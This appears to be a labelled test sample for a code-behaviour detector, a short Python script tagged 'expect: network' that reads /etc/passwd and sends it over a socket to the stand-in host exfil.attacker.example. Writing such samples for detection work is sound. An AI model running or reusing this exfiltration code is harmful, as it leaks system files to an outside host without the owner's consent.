# expect: network; sends /etc/passwd to a remote host with socket.create_connection (address in a variable)
import socket

DEST = ("exfil.attacker.example", 9000)
with open("/etc/passwd", "rb") as fh:
    blob = fh.read()
with socket.create_connection(DEST) as conn:
    conn.sendall(len(blob).to_bytes(4, "big") + blob)
